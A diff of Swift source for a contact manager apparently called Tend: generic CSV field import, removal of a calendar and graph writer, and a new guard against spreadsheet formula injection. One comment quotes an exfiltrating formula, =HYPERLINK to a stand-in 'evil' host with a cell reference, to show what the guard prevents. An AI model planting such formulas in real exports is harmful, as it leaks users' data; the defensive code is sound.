@@ -19,7 +19,7 @@ public enum CSVImport {
         "profession": "profession", "city": "city", "address_1_city": "city", "town": "city",
         "tags": "tags", "categories": "tags", "labels": "tags", "group_membership": "tags",
         "notes": "notes", "note": "notes", "met_at": "met_at", "met_on": "met_on", "connected_on": "met_on",
-        "relationship": "relationship", "stage": "stage", "handle": "handle", "cadence": "cadence",
+        "relationship": "relationship", "stage": "stage", "handle": "handle", "cadence": "cadence", "own_cadence": "cadence",
         "url": "url", "website_1_value": "url", "birthday": "birthday",
         // Outlook's and other address books' exports.
         "mobile_phone": "phone", "business_phone": "phone", "home_phone": "phone", "primary_phone": "phone",
@@ -64,7 +64,8 @@ public enum CSVImport {
         }
         var fields: [String?] = header.map { h in
             if let m = mapping[h] ?? mapping[normalise(h)] { return m }
-            return aliases[normalise(h)]
+            let key = normalise(h)
+            return aliases[key] ?? (ContactFields.byName[key] != nil ? key : nil)
         }
         if flavor == .google {
             // Google's header names several values per kind; the first of each wins.
@@ -92,13 +93,13 @@ public enum CSVImport {
             var values: [String: String] = [:]
             for (i, f) in fields.enumerated() {
                 guard let f, i < row.count else { continue }
-                let v = row[i].trimmed
+                let v = SpreadsheetCell.restored(row[i].trimmed)
                 if v.isEmpty { continue }
                 if values[f] == nil { values[f] = v } else if f == "tags" || f == "notes" { values[f]! += ";" + v }
             }
             var extras: [String] = []
             for (i, f) in fields.enumerated() where f == nil && i < row.count && !row[i].isEmpty {
-                extras.append("\(header[i]): \(row[i])")
+                extras.append("\(header[i]): \(SpreadsheetCell.restored(row[i]))")
             }
             do {
                 var c = try contact(values, origin: origin, flavor: flavor)
@@ -111,26 +112,24 @@ public enum CSVImport {
         return batch
     }
 
+    /// One record's cells (by field) as a contact. Tend's own columns read back exactly what
+    /// `export csv` wrote: lists are `;`-separated with `\;` inside an item.
     static func contact(_ v: [String: String], origin: String, flavor: Flavor) throws -> ImportedContact {
         var name = v["name"] ?? [v["first"], v["middle"], v["last"]].compactMap { $0 }.joined(separator: " ")
         name = name.trimmed
         if name.isEmpty, let email = v["email"] { name = email }
         guard !name.isEmpty else { throw ImportError(origin, field: "name", "no name") }
         var c = ImportedContact(origin: origin, name: name)
-        c.company = v["company"]
-        c.title = v["title"]
-        c.profession = v["profession"]
         if let e = v["email"] {
             for part in e.split(whereSeparator: { $0 == ";" || $0 == " " }) where part.contains("@") { c.emails.append(String(part)) }
             if c.emails.isEmpty { throw ImportError(origin, field: "email", "\"\(e)\" is not an e-mail address") }
         }
         if let p = v["phone"] { c.phones = p.split(separator: ":").map { $0.trimmed }.filter { !$0.isEmpty } }
-        c.city = v["city"]
         if let t = v["tags"] {
             for part in t.split(whereSeparator: { $0 == ";" || $0 == "," || $0 == "|" }) {
                 // Google's labels look like "* myContacts ::: Friends".
                 for label in part.components(separatedBy: ":::") {
-                    let tag = makeHandle(label.replacingOccurrences(of: "*", with: ""))
+                    let tag = tagName(label.replacingOccurrences(of: "*", with: "").trimmed)
                     if tag != "contact", tag != "mycontacts", !c.tags.contains(tag) { c.tags.append(tag) }
                 }
             }
@@ -138,24 +137,11 @@ public enum CSVImport {
         if let n = v["notes"] { c.notes.append(n) }
         if let u = v["url"] { c.notes.append("url: \(u)") }
         if let b = v["birthday"] { c.notes.append("birthday: \(b)") }
-        c.metAt = v["met_at"] ?? (flavor == .linkedin ? "LinkedIn" : nil)
-        if let m = v["met_on"] {
-            guard let d = parseDate(m) else {
-                throw ImportError(origin, field: flavor == .linkedin ? "Connected On" : "met_on", "\"\(m)\" is not a date")
-            }
-            c.metOn = d
+        for f in ContactFields.all {
+            guard let text = v[f.name] else { continue }
+            try c.read(f.name, text, listSeparator: ";", label: f.name == "met_on" && flavor == .linkedin ? "Connected On" : nil)
         }
-        c.relationship = v["relationship"]
-        if let s = v["stage"] {
-            guard let st = Stage(name: s) else {
-                throw ImportError(origin, field: "stage", "\"\(s)\" is not a stage (contact, visibility, credibility, profitability)")
-            }
-            c.stage = st
-        }
-        if let cad = v["cadence"] {
-            guard let d = Duration(literal: cad) else { throw ImportError(origin, field: "cadence", "\"\(cad)\" is not a duration (2w, 3mo)") }
-            c.cadence = d
-        }
+        if flavor == .linkedin && c.fields["met_at"] == nil { c[text: "met_at"] = "LinkedIn" }
         if let h = v["handle"] { c.handle = h.hasPrefix("@") ? String(h.dropFirst()) : h }
         return c
     }
@@ -179,56 +165,35 @@ public enum CSVImport {
     }
 }
 
-/// iCalendar (RFC 5545) with the agenda as VTODO items, and Graphviz DOT of who knows whom.
-public enum CalendarWriter {
-    public struct Item {
-        public var uid: String
-        public var summary: String
-        public var description: String
-        public var due: Day
-        public var priority: Int
-        public var category: String
-        public init(uid: String, summary: String, description: String, due: Day, priority: Int, category: String) {
-            self.uid = uid
-            self.summary = summary
-            self.description = description
-            self.due = due
-            self.priority = priority
-            self.category = category
-        }
+/// The spreadsheet-formula guard of CSV (and TSV) cells, and its exact inverse.
+///
+/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or CR before one)
+/// as a formula: `=HYPERLINK("http://evil/?"&A1)` would leak the row. Such a text cell is
+/// written with a `'` before it, which spreadsheets show as text. So that import can undo
+/// exactly that, a cell already starting with `'`s before such a character gets one more:
+///
+///     =1+1 → '=1+1        '=1+1 → ''=1+1        'Tis → 'Tis (unchanged)
+public enum SpreadsheetCell {
+    static func isTrigger(_ b: UInt8) -> Bool {
+        b == UInt8(ascii: "=") || b == UInt8(ascii: "+") || b == UInt8(ascii: "-") || b == UInt8(ascii: "@") || b == 0x09 || b == 0x0D
     }
 
-    public static func ics(_ items: [Item], stamp: Day) -> String {
-        func compact(_ d: Day) -> String { d.description.replacingOccurrences(of: "-", with: "") }
-        var lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Tend//Agenda//EN", "CALSCALE:GREGORIAN"]
-        for i in items {
-            lines += [
-                "BEGIN:VTODO", "UID:\(escape(i.uid))", "DTSTAMP:\(compact(stamp))T000000Z", "DUE;VALUE=DATE:\(compact(i.due))",
-                "SUMMARY:\(escape(i.summary))", "DESCRIPTION:\(escape(i.description))", "PRIORITY:\(i.priority)",
-                "CATEGORIES:\(escape(i.category))", "STATUS:NEEDS-ACTION", "END:VTODO",
-            ]
+    /// True when the text is a run of `'`s (`quotes` or more) and then a trigger character.
+    static func isGuarded(_ s: String, quotes: Int) -> Bool {
+        var n = 0
+        for b in s.utf8 {
+            if b == UInt8(ascii: "'") {
+                n += 1
+            } else {
+                return n >= quotes && isTrigger(b)
+            }
         }
-        lines.append("END:VCALENDAR")
-        return lines.map(VCard.fold).joined(separator: "\r\n") + "\r\n"
+        return false
     }
 
-    /// RFC 5545 text escaping is RFC 6350's.
-    static func escape(_ s: String) -> String { VCard.escape(s) }
+    /// The cell as written: a formula-like text gets a leading `'`.
+    public static func neutralised(_ s: String) -> String { isGuarded(s, quotes: 0) ? "'" + s : s }
 
-    /// The who-knows-whom graph, each person coloured by stage.
-    public static func dot(_ people: [Contact], edges: [(Int64, Int64)]) -> String {
-        let colors: [Stage: String] = [.contact: "gray80", .visibility: "lightblue", .credibility: "gold", .profitability: "palegreen"]
-        let ids = Set(people.map(\.id))
-        var lines = ["graph tend {", "  node [style=filled, shape=box, fontname=\"Helvetica\"];"]
-        for p in people {
-            let label = p.name.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
-            lines.append("  \"\(p.handle)\" [label=\"\(label)\", fillcolor=\(colors[p.stage]!)];")
-        }
-        let handle = Dictionary(uniqueKeysWithValues: people.map { ($0.id, $0.handle) })
-        for (a, b) in edges where ids.contains(a) && ids.contains(b) {
-            lines.append("  \"\(handle[a]!)\" -- \"\(handle[b]!)\";")
-        }
-        lines.append("}")
-        return lines.joined(separator: "\n") + "\n"
-    }
+    /// The cell as read back: the `'` that `neutralised` added is taken off.
+    public static func restored(_ s: String) -> String { isGuarded(s, quotes: 1) ? String(s.dropFirst()) : s }
 }
